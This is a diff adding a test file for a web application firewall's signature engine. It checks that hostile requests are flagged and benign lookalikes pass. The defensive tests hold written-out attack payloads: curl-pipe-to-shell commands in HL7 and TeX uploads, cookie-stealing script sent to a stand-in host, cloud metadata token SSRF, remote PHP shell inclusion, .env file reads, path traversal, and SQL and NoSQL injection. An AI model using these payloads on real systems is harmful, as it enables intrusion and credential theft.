@@ -1,0 +1,148 @@
+/**
+ * Bodies and parameters read as the software behind them reads them: HL7 v2 messages field by
+ * field, uploads that a converter or a player acts on (MVG coders, TeX primitives, subtitle cues, a
+ * playlist inside an AVI), URLs sent in Base64, another site's file in an include parameter, nginx's
+ * alias traversal, and the query languages that name a MongoDB operator (SoQL's `$where`, an
+ * aggregation's `$match`).
+ */
+import { describe, expect, it } from "vitest";
+import { createSignatureEngine, type SignatureInput, type SignatureOptions } from "../../../core/signatures/index.ts";
+
+const engine = createSignatureEngine();
+const enc = new TextEncoder();
+const PL1: SignatureOptions = { paranoia: 1, threshold: 5 };
+
+function req(over: Partial<SignatureInput> = {}): SignatureInput {
+  return { method: "GET", path: "/a", rawPath: "/a", query: [], headers: [["host", "app.example"]], ...over };
+}
+
+const where = (input: SignatureInput): string[] =>
+  engine.inspect(input, PL1).matches.map((m) => `${m.rule}@${m.location}`);
+const post = (contentType: string, text: string): string[] =>
+  where(req({ method: "POST", body: { bytes: enc.encode(text), contentType, truncated: false } }));
+const upload = (filename: string, type: string, content: string): string[] =>
+  post(
+    "multipart/form-data; boundary=XB",
+    `--XB\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XB--\r\n`,
+  );
+const query = (...pairs: Array<[string, string]>): string[] => where(req({ query: pairs }));
+const path = (p: string): string[] => where(req({ path: p, rawPath: p }));
+
+const MSH = "MSH|^~\\&|EHR|VALLEYFM|IMMREG|NMSIIS|20240510090000||QBP^Q11^QBP_Q11|Q-88120|P|2.5.1|||ER|AL";
+
+describe("HL7 v2 messages", () => {
+  it("reads a message's separators as its grammar, not as shell pipes and chains", () => {
+    const msg = `${MSH}\rQPD|Z44^Request Evaluated History and Forecast^CDCPHINVS|Q-88120\rRCP|I|5^RD&Records&HL70126\r`;
+    expect(post("text/plain", msg)).toEqual([]);
+    // The same segments without a header are no HL7 to the reader: judged whole, as before.
+    expect(post("text/plain", "QPD|Z44^x|Q-1\rRCP|I|5^RD&Records&HL70126\r")).not.toEqual([]);
+  });
+
+  it("judges each field's values, with HL7's escapes decoded", () => {
+    expect(post("application/hl7-v2", `${MSH}\rPID|1||' OR 1=1--||DOE^JOHN`)).toContain("942100@body:raw.PID.3");
+    // `\F\` is the field separator: the application's HL7 library hands `DOE|curl …|sh` over.
+    expect(post("text/plain", `${MSH}\rPID|1||123||DOE^JOHN\\F\\curl http://198.51.100.4/x.sh\\F\\sh`)).toContain(
+      "932100@body:raw.PID.5",
+    );
+    // `\X..\` is bytes in hex: `<script>alert(1) `.
+    expect(post("text/plain", `${MSH}\rOBX|1|TX|||\\X3C7363726970743E616C65727428312920\\`)).toContain(
+      "941100@body:raw.OBX.5",
+    );
+  });
+});
+
+describe("uploads a converter or a player acts on", () => {
+  it("reads MVG whatever the file's name and type, and the coders that run or read", () => {
+    const mvg =
+      "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'msl:/tmp/php8Fa2Qx'\npop graphic-context";
+    expect(upload("thumb.svg", "image/svg+xml", mvg)).toContain("931110@body:multipart.file.content.arg");
+    expect(upload("a.mvg", "image/x-mvg", mvg.replace("msl:/tmp/php8Fa2Qx", "label:@/tmp/notes"))).toContain(
+      "931110@body:multipart.file.content.arg",
+    );
+    expect(upload("a.mvg", "image/x-mvg", mvg.replace("msl:/tmp/php8Fa2Qx", "https://cdn.example/a.png"))).toEqual([]);
+  });
+
+  it("reads a text upload's TeX primitives, not its prose", () => {
+    const tex = (line: string) =>
+      `\\documentclass{book}\n\\begin{document}\n${line}\n\\chapter{Prologue}\nIt was a dark night.\n\\end{document}`;
+    expect(
+      upload("novel.tex", "application/x-tex", tex("\\immediate\\write18{curl -s http://198.51.100.40/r.sh | bash}")),
+    ).toContain("920266@body:multipart.file.content.tex");
+    expect(upload("novel.tex", "application/x-tex", tex("\\input{/etc/passwd}"))).toContain(
+      "920267@body:multipart.file.content.tex",
+    );
+    expect(upload("novel.tex", "application/x-tex", tex("\\input{chapters/intro}"))).toEqual([]);
+  });
+
+  it("reads a subtitle file's cues that hold markup", () => {
+    const srt = (cue: string) =>
+      `1\n00:00:01,000 --> 00:00:04,000\nWelcome back!\n\n2\n00:00:04,500 --> 00:00:07,200\n${cue}\n`;
+    expect(
+      upload("en.srt", "application/x-subrip", srt("<script>fetch('//x.example/?c='+document.cookie)</script>")),
+    ).toContain("941100@body:multipart.file.content.cue");
+    expect(upload("en.vtt", "text/vtt", srt('<img src=x onerror="alert(1)">'))).toContain(
+      "941110@body:multipart.file.content.cue",
+    );
+    expect(upload("en.srt", "application/x-subrip", srt('<i>Whispering</i> <font color="#ffff00">Hi</font>'))).toEqual(
+      [],
+    );
+    expect(upload("en.vtt", "text/vtt", srt("<v Roger Bingham><c.yellow>We are in New York City</c>"))).toEqual([]);
+  });
+
+  it("reads a playlist inside an AVI, which ffmpeg probes and fetches", () => {
+    const avi =
+      "RIFF\u0000\u0000\u0000\u0000AVI LIST\u0000\u0000hdrlavih8\u0000GAB2\u0000#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nfile:///var/www/app/.env\n#EXT-X-ENDLIST\n";
+    expect(upload("clip.avi", "video/avi", avi)).toContain("931110@body:multipart.file.content.playlist");
+    expect(upload("clip.avi", "video/avi", "RIFF\u0000\u0000\u0000\u0000AVI LIST\u0000\u0000hdrlmovi frames")).toEqual(
+      [],
+    );
+  });
+});
+
+describe("URLs the application loads", () => {
+  it("judges a Base64 value or path segment that decodes to a URL as that URL", () => {
+    const meta = btoa("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token");
+    expect(query(["src", meta])).toContain("934110@query:src.b64");
+    expect(path(`/insecure/rs:fit:512:512:0/g:no/${meta.replaceAll("=", "")}.png`)).toContain("934110@path.b64");
+    // A public image's URL, a token and a Base64 YAML file decode to nothing to judge.
+    expect(query(["src", btoa("https://images.example.com/cat.jpg")])).toEqual([]);
+    expect(query(["token", "dGhpcyBpcyBhIHRlc3QgdG9rZW4gdmFsdWU"])).toEqual([]);
+    expect(query(["content", btoa("name: CI\non:\n  push:\n")])).toEqual([]);
+  });
+
+  it("takes another site's URL in a parameter naming a file to load for remote inclusion", () => {
+    expect(query(["include", "HtTpS://raw.githubusercontent.com/x0rcist/shells/main/b374k.php"])).toContain(
+      "931102@query:include",
+    );
+    expect(query(["template", "https://pastebin.com/raw/xQ7pL2aN"])).toContain("931102@query:template");
+    expect(query(["lang", "//evil.example/en"])).toContain("931102@query:lang");
+    expect(query(["url", "https://pastebin.com/raw/xQ7pL2aN"])).toEqual([]);
+    expect(query(["template", "invoice-2024"])).toEqual([]);
+  });
+
+  it("takes a segment glued to two dots for nginx's alias traversal", () => {
+    expect(path("/media../config/settings.py")).toContain("930110@path");
+    expect(path("/assets%2e%2e/app.py")).toContain("930110@path");
+    expect(path("/posts/and-then.../comments")).toEqual([]);
+    // Nothing after the segment: no directory to reach.
+    expect(path("/files/v1.2../")).toEqual([]);
+  });
+});
+
+describe("query languages that name a MongoDB operator", () => {
+  it("passes SoQL's $where condition and still takes JavaScript there", () => {
+    expect(query(["$where", "issue_date > '2024-01-01' AND reported_cost < 500"], ["$limit", "1000"])).toEqual([]);
+    expect(query(["$where", "this.password.match(/.*/)"])).toContain("942290@query-name");
+    expect(query(["$where", "sleep(5000)"])).toContain("942290@query-name");
+    // One `$where` of JavaScript beside a SoQL one: the name counts.
+    expect(query(["$where", "x > 1"], ["$where", "this.a == 1"])).toContain("942290@query-name");
+  });
+
+  it("passes an aggregation's $match filter and still takes an operator where a value was expected", () => {
+    const pipeline = '{"pipeline":[{"$match":{"ts":{"$gte":"2024-05-01T00:00:00Z","$lt":"2024-06-01T00:00:00Z"}}}]}';
+    expect(post("application/json", pipeline)).toEqual([]);
+    expect(post("application/json", '{"user":"admin","password":{"$gt":""}}')).toContain(
+      "942290@body:json-name.password.$gt",
+    );
+  });
+});
